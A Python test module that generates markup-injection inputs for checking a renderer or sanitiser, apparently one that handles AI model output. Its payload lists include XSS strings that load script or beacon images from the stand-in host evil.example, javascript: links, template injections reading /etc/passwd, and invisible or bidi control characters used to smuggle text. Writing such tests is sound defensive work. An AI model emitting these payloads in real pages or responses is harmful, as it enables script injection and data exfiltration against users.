"""Texts that try to become markup: the corpora, and generated ones from a small grammar."""

from __future__ import annotations

import json
import random
from collections.abc import Iterator
from html import escape
from typing import Any

import pytest

from . import attack_forms
from .others import reading, texts_of_others
from .paths import CORPORA

OURS = "llm-render-attacks"
WRITTEN = "written"
OTHERS = ("markdown-bypass-vercel", "html5sec-h5sc", "trojan-source")

NAMES = [OURS, WRITTEN, *(pytest.param(name, marks=reading(name)) for name in OTHERS)]
EVERY = pytest.mark.parametrize("name", NAMES)
"""Runs a test for every set of attacks; `corpus` returns them."""

HTML = [
    "<script src=https://evil.example/x.js x=",
    "<script>alert(1)</script>",
    "<img src=https://evil.example/b.png onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "' onmouseover='alert(1)",
    '" style="background:url(https://evil.example/b.png)" x="',
    '<a href="javascript:alert(1)">x</a>',
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<style>*{background:url(https://evil.example/b.png)}</style>",
    "<details open ontoggle=alert(1)>",
    "<form action=https://evil.example><button>x",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<base href=https://evil.example>",
    "<math><mtext></mtext><script>alert(1)</script>",
    *("<!--", "-->", "<?php", "?>", "<![CDATA[", "]]>", "<!DOCTYPE x>", "<b", "<b>", "</p>", "<"),
    *("</style>", "</textarea>", "</title>", "</script>", "</div></div></div>", "</pre></code>"),
]
MARKDOWN = [
    "[a](https://evil.example/p)",
    "[a](javascript:alert(1))",
    "[a](<data:text/html,x> 't')",
    "![a](https://evil.example/b.png)",
    "![x][r]",
    "[x][r]",
    "[r]",
    "[r]: https://evil.example/b.png",
    "[r]: <javascript:alert(1)> 't'",
    "[1]: https://evil.example/b.png",
    "[s0000-1]",
    "[\\[1\\]][s0000-1]",
    "](https://evil.example/p)",
    "](s0000-1)",
    "](<https://evil.example/p>)[",
    "<https://evil.example/p>",
    "<me@evil.example>",
    "<javascript:alert(1)>",
    "https://evil.example/p",
    "HTTPS://user@evil.example/p",
    "www.evil.example",
    "//evil.example/x",
    "ftp://evil.example/x",
    "me@evil.example",
    "mailto:me@evil.example",
    "[^1]",
    "[^1]: a note",
    "^[a note]",
    "[1]",
    "[web:2]",
    "[x]{onclick=alert(1)}",
    "*a*",
    "**",
    "_a_",
    "~~a~~",
    "^a^",
    "~a~",
    "`a`",
    "`",
    "``",
    "{=html}",
    "word{#a .b onclick=alert(1)}",
    "{.a}",
    "{eval}`open('/etc/passwd')`",
    "`r system('id')`",
    "`{python} open('/etc/passwd')`",
    "{{< env HOME >}}",
    "{{ config }}",
    "{% include x %}",
    "{# hidden #}",
    "{: onclick=alert(1)}",
    "@key",
    "-@key",
    "[@key, p. 1]",
    "@fig-a",
    "_www.evil.example_",
    "<é onclick=alert(1)>",
    "`<b>`{=html}",
    "\\",
    "\\\\",
    "\\<b>",
    "!",
    "[",
    "]",
    "(",
    ")",
    "|",
    "&lt;script&gt;",
    "&#60;img src=x&#62;",
    "&NewLine;&NewLine;",
    "&colon;",
    "&amp;lt;b&amp;gt;",
    "&",
    "&#",
]
BLOCKS = [
    "# head",
    "head\n===",
    "head\n---",
    "- item",
    "- [x] done",
    "[ ] to do",
    "1. item",
    "1) item",
    "> quote",
    "> [!NOTE]",
    "```\ncode\n```",
    "~~~\ncode",
    "```{=html}\n<b>\n```",
    "    code",
    "\t<b>",
    "***",
    "---",
    "---\ntitle: x\n---",
    "% title",
    "a\n% comment\nb",
    "%%writefile x",
    "#head",
    "+++",
    "a\n+++ {}\nb",
    "(target)=",
    "a\n(target)= \nb",
    ":field: value",
    "+---+\n+---+",
    "(@) example",
    "@. example",
    "!!! note",
    ":::",
    "::: {onclick=alert(1)}",
    "| a | b |\n|---|---|\n| c | d |",
    "a\n: definition",
    "*[HTML]: a",
    "| line",
    "<div>\n\n![a](https://evil.example/b.png)",
]
FORMULAS = [
    "$a$",
    "$$a$$",
    "$",
    "$5 and $6",
    "\\(\\href{javascript:alert(1)}{x}\\)",
    "\\[x\\]",
    "\\(",
    "\\]",
    "\\begin{x}",
    "\\end{x}",
    "$![a](https://evil.example/b.png)$",
    "$<img src=https://evil.example/b.png>$",
    "$$\n    # a\n    - b\n    ~~~\n$$",
    "$\\input{/etc/passwd}$",
    "$$\na\n[^1]: b\n% c\n+++\n(a)=\n$$",
]
RECORDS = ["}", "{", "@online{x,\n", "TY  - ELEC", "ER  - ", "{0}", "%n", "%s", "\\end{document}"]
LINE_ENDS = [
    *("\n", "\n\n", "\r", "\r\r", "\r\n\r\n", "\n\r", "\x0b", "\x0c", "\x1c", "\x1e", "\x85"),
    *("\u2028", "\u2029", "\n \t\n", "\\\n", "  \n"),
]
HIDDEN = [
    *(
        "\0",
        "\x00\x31\x00",
        "\x07",
        "\x08",
        "\x1b[31m",
        "\x1b]8;;https://evil.example\x07x",
        "\x7f",
    ),
    *("\x9b31m", "\x9d", "\u202e", "\u202d", "\u2066", "\u2069", "\u200e", "\u200f", "\u061c"),
    *("\u200b", "\u200d", "\ufeff", "\xad", "\u2060", "\ufff9", "\U000e0001", "\U000e007f"),
    *("\u034f", "\u3164", "\U000e0100", "\ufdd0", "\uffff", "\xa0", "\u3000", "\t"),
]
WORDS = ["a", "b c", "Ünï", "中文", "שלום", "😀", "1", "s_n", "C++", "5 * 3", "x^2", " ", "  ", ""]
KINDS = (HTML, MARKDOWN, BLOCKS, FORMULAS, RECORDS, LINE_ENDS, HIDDEN, WORDS)


def corpus(name: str) -> list[str]:
    """Return the texts of a set of attacks."""
    return attack_forms.written() if name == WRITTEN else [_markdown(item) for item in _read(name)]


def strings(name: str) -> list[str]:
    """Return all strings of a set, including the descriptions of its texts."""
    return attack_forms.written() if name == WRITTEN else list(_strings(_read(name)))


def _read(name: str) -> list[Any]:
    path = CORPORA / f"{name}.json" if name == OURS else texts_of_others(name)
    return list(json.loads(path.read_text("utf-8")))


def _markdown(item: dict[str, str]) -> str:
    return item.get("md") or item.get("html") or item["text"]


def _strings(value: object) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict | list):
        for each in value.values() if isinstance(value, dict) else value:
            yield from _strings(each)


def made_up(count: int, seed: int) -> Iterator[str]:
    """Yield attacks: first single ones, then encoded, cut, nested and adjacent ones."""
    chance = random.Random(seed)
    alone = [text for kind in KINDS for text in kind]
    for i in range(count):
        if i < len(alone):
            yield alone[i]
            continue
        pieces = [_piece(chance) for _ in range(chance.choice([1, 2, 2, 3, 5]))]
        yield "".join(pieces)


def _piece(chance: random.Random) -> str:
    kind = chance.choices(KINDS, weights=[6, 8, 5, 3, 1, 3, 3, 4])[0]
    text = chance.choice(kind)
    if chance.random() < 0.3:
        text = _encoded(text, chance)
    if chance.random() < 0.2:
        cut = chance.randint(0, len(text))
        text = chance.choice([text[:cut], text[cut:]])
    return chance.choice(["", "", "", " ", "a", "\n", "\\"]) + text


def _encoded(text: str, chance: random.Random) -> str:
    match chance.randrange(8):
        case 0:
            return "".join(f"&#{ord(c)};" for c in text)
        case 1:
            return "".join(f"&#x{ord(c):x};" for c in text)
        case 2:
            return escape(text)
        case 3:  # tag characters, which are invisible
            return "".join(chr(0xE0000 + ord(c)) if " " <= c <= "~" else c for c in text)
        case 4:
            return "".join(f"\\{c}" for c in text)
        case 5:
            return text.swapcase()
        case 6:
            return text.replace(" ", chance.choice(LINE_ENDS)).replace("\n", "\r")
        case _:
            at = chance.randint(0, len(text))
            return text[:at] + chance.choice(HIDDEN) + text[at:]
